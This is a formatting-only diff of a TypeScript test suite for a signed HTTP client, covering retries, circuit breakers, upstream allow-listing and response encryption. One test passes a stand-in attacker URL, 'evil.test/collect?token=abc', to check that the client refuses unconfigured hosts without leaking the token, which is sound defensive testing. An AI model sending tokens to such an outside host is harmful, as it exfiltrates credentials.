@@ -32,9 +32,17 @@ interface Seen {
 function scriptedAdapter(script: Step[]) {
   const seen: Seen[] = [];
   const adapter = async (config: InternalAxiosRequestConfig): Promise<AxiosResponse> => {
-    const headers = Object.fromEntries(Object.entries(AxiosHeaders.from(config.headers).toJSON()).map(([k, v]) => [k.toLowerCase(), String(v)]));
+    const headers = Object.fromEntries(
+      Object.entries(AxiosHeaders.from(config.headers).toJSON()).map(([k, v]) => [k.toLowerCase(), String(v)]),
+    );
     const body = config.data === undefined ? undefined : Buffer.from(config.data as Uint8Array);
-    const request: Seen = { method: String(config.method).toUpperCase(), url: String(config.url), headers, body, signal: config.signal as AbortSignal | undefined };
+    const request: Seen = {
+      method: String(config.method).toUpperCase(),
+      url: String(config.url),
+      headers,
+      body,
+      signal: config.signal as AbortSignal | undefined,
+    };
     seen.push(request);
     let step = script.shift() ?? { status: 200 };
     if ('hang' in step) {
@@ -55,11 +63,16 @@ function scriptedAdapter(script: Step[]) {
 }
 
 const nonceOf = (headers: Record<string, string>) => /;nonce="([^"]+)"/.exec(headers['signature-input'] ?? '')?.[1];
-const paramOf = (headers: Record<string, string>, name: string) => new RegExp(`;${name}="([^"]+)"`).exec(headers['signature-input'] ?? '')?.[1];
+const paramOf = (headers: Record<string, string>, name: string) =>
+  new RegExp(`;${name}="([^"]+)"`).exec(headers['signature-input'] ?? '')?.[1];
 const UPSTREAM = 'http://inventory.test:8082';
 const PAYMENTS = 'http://payments.test:8083';
 
-const credential = (id: string): CredentialDefinition => ({ id, apiKey: `sk_${randomBytes(32).toString('base64url')}`, secret: randomBytes(32).toString('base64url') });
+const credential = (id: string): CredentialDefinition => ({
+  id,
+  apiKey: `sk_${randomBytes(32).toString('base64url')}`,
+  secret: randomBytes(32).toString('base64url'),
+});
 
 /** The pairs order-service holds, one credential set per upstream (the first key signs). */
 const PAIRS = {
@@ -98,7 +111,9 @@ function service(script: Step[], client: SignedHttpClientOptions = {}, serviceKe
 describe('SignedHttpService resilience', () => {
   it('retries a POST with an Idempotency-Key, signing every attempt afresh (same key, new nonce)', async () => {
     const { http, seen } = service([{ network: 'ECONNRESET' }, { status: 503 }, { status: 200 }]);
-    const answer = await firstValueFrom(http.post(`${UPSTREAM}/api/inventory`, { productId: 'P1', quantity: 1 }, { headers: { 'Idempotency-Key': 'order-42' } }));
+    const answer = await firstValueFrom(
+      http.post(`${UPSTREAM}/api/inventory`, { productId: 'P1', quantity: 1 }, { headers: { 'Idempotency-Key': 'order-42' } }),
+    );
     expect(answer.status).toBe(200);
     expect(seen).toHaveLength(3);
     expect(new Set(seen.map((s) => s.headers['idempotency-key']))).toEqual(new Set(['order-42']));
@@ -114,7 +129,9 @@ describe('SignedHttpService resilience', () => {
   });
 
   it('retries GET up to maxAttempts, then emits the last error', async () => {
-    const { http, seen } = service([{ network: 'ECONNREFUSED' }, { network: 'ECONNREFUSED' }, { status: 504 }], { retry: { maxAttempts: 3, baseDelayMs: 0 } });
+    const { http, seen } = service([{ network: 'ECONNREFUSED' }, { network: 'ECONNREFUSED' }, { status: 504 }], {
+      retry: { maxAttempts: 3, baseDelayMs: 0 },
+    });
     await expect(firstValueFrom(http.get(`${UPSTREAM}/api/inventory/P1`))).rejects.toMatchObject({ response: { status: 504 } });
     expect(seen).toHaveLength(3);
   });
@@ -165,7 +182,8 @@ describe('SignedHttpService resilience', () => {
       Array.from({ length: 20 }, () => ({ status: 500 })),
       { retry: false, circuitBreaker: false },
     );
-    for (let i = 0; i < 10; i++) await expect(firstValueFrom(http.get(`${UPSTREAM}/x`))).rejects.toMatchObject({ response: { status: 500 } });
+    for (let i = 0; i < 10; i++)
+      await expect(firstValueFrom(http.get(`${UPSTREAM}/x`))).rejects.toMatchObject({ response: { status: 500 } });
     expect(seen).toHaveLength(10);
   });
 
@@ -250,7 +268,9 @@ describe('SignedHttpService upstream selection', () => {
     }
     expect(seen).toEqual([]);
 
-    const error = (await firstValueFrom(http.get('http://evil.test/collect?token=abc')).catch((e: unknown) => e)) as UpstreamNotConfiguredError;
+    const error = (await firstValueFrom(http.get('http://evil.test/collect?token=abc')).catch(
+      (e: unknown) => e,
+    )) as UpstreamNotConfiguredError;
     expect(error.target).toBe('http://evil.test/collect');
     expect(error.message).not.toContain('token=abc');
     for (const id of ['inventory-service', 'payments-service', 'billing-service', 'billing-v2']) expect(error.message).toContain(id);
@@ -271,8 +291,10 @@ describe('SignedHttpService upstream selection', () => {
 
   it('refused calls do not count against the circuit of their origin', async () => {
     const { http, seen } = service([], { retry: false, circuitBreaker: { consecutiveFailures: 2, halfOpenAfterMs: 60_000 } });
-    for (let i = 0; i < 5; i++) await expect(firstValueFrom(http.get(`${UPSTREAM.replace('8082', '8083')}/x`))).rejects.toBeInstanceOf(UpstreamNotConfiguredError);
-    for (let i = 0; i < 5; i++) await expect(firstValueFrom(http.get('http://billing.test/other'))).rejects.toBeInstanceOf(UpstreamNotConfiguredError);
+    for (let i = 0; i < 5; i++)
+      await expect(firstValueFrom(http.get(`${UPSTREAM.replace('8082', '8083')}/x`))).rejects.toBeInstanceOf(UpstreamNotConfiguredError);
+    for (let i = 0; i < 5; i++)
+      await expect(firstValueFrom(http.get('http://billing.test/other'))).rejects.toBeInstanceOf(UpstreamNotConfiguredError);
     // billing.test is the origin of configured upstreams: its circuit is still closed.
     await expect(firstValueFrom(http.get('http://billing.test/api/x'))).resolves.toMatchObject({ status: 200 });
     expect(seen).toHaveLength(1);
@@ -307,21 +329,22 @@ describe('SignedHttpService upstream selection', () => {
 
 describe('SignedHttpService client.encrypt (by upstream id)', () => {
   /** An encrypted answer to `request`, under one of an upstream's keys. */
-  const sealedAnswer = (key: CredentialDefinition, audience: string, kid = key.id) => (request: Seen): Answer => {
-    const ring = KeyRing.from({ callers: [{ id: 'order-service', keys: [key] }] }, audience);
-    const jwe = encryptCompact(Buffer.from('{"ok":"sealed"}'), ring.findCallerKey('order-service', key.id)!.encryptionKey, {
-      kid,
-      nonce: nonceOf(request.headers),
-      status: 200,
-    });
-    return { status: 200, headers: { 'content-type': 'application/jose' }, data: jwe };
-  };
+  const sealedAnswer =
+    (key: CredentialDefinition, audience: string, kid = key.id) =>
+    (request: Seen): Answer => {
+      const ring = KeyRing.from({ callers: [{ id: 'order-service', keys: [key] }] }, audience);
+      const jwe = encryptCompact(Buffer.from('{"ok":"sealed"}'), ring.findCallerKey('order-service', key.id)!.encryptionKey, {
+        kid,
+        nonce: nonceOf(request.headers),
+        status: 200,
+      });
+      return { status: 200, headers: { 'content-type': 'application/jose' }, data: jwe };
+    };
 
   it('encrypts only for the upstreams listed, by id', async () => {
-    const { http, seen } = service(
-      [{ reply: sealedAnswer(PAIRS.payments.keys[0], 'payments-service') }, { status: 200 }],
-      { encrypt: ['payments-service'] },
-    );
+    const { http, seen } = service([{ reply: sealedAnswer(PAIRS.payments.keys[0], 'payments-service') }, { status: 200 }], {
+      encrypt: ['payments-service'],
+    });
     await expect(firstValueFrom(http.post(`${PAYMENTS}/pay`, { amount: 5 }))).resolves.toMatchObject({ data: { ok: 'sealed' } });
     await firstValueFrom(http.post(`${UPSTREAM}/api/inventory`, { productId: 'P1' }));
     expect(seen[0].headers['content-type']).toBe('application/jose');
@@ -338,10 +361,18 @@ describe('SignedHttpService client.encrypt (by upstream id)', () => {
   });
 
   it('encrypt: true encrypts for every upstream', async () => {
-    const { http, seen } = service([{ status: 204, data: '' }, { status: 204, data: '' }], { encrypt: true });
+    const { http, seen } = service(
+      [
+        { status: 204, data: '' },
+        { status: 204, data: '' },
+      ],
+      { encrypt: true },
+    );
     // An unsealed 2xx answer to an encrypted call is refused, an empty 204 included (PROTOCOL.md §5.1).
     await expect(firstValueFrom(http.post(`${UPSTREAM}/a`, { a: 1 }))).rejects.toMatchObject({ reason: 'encryption_required' });
-    await expect(firstValueFrom(http.post('http://billing.test/api/v2/b', { b: 2 }))).rejects.toMatchObject({ reason: 'encryption_required' });
+    await expect(firstValueFrom(http.post('http://billing.test/api/v2/b', { b: 2 }))).rejects.toMatchObject({
+      reason: 'encryption_required',
+    });
     expect(seen.map((s) => s.headers['content-type'])).toEqual(['application/jose', 'application/jose']);
   });
 
@@ -358,6 +389,9 @@ describe('SignedHttpService client.encrypt (by upstream id)', () => {
     );
     await expect(firstValueFrom(http.get(`${UPSTREAM}/a`))).resolves.toMatchObject({ data: { ok: 'sealed' } });
     await expect(firstValueFrom(http.get(`${UPSTREAM}/b`))).rejects.toMatchObject({ name: 'ServiceAuthError', reason: 'key_unknown' });
-    await expect(firstValueFrom(http.get(`${UPSTREAM}/c`))).rejects.toMatchObject({ name: 'ServiceAuthError', reason: 'decryption_failed' });
+    await expect(firstValueFrom(http.get(`${UPSTREAM}/c`))).rejects.toMatchObject({
+      name: 'ServiceAuthError',
+      reason: 'decryption_failed',
+    });
   });
 });
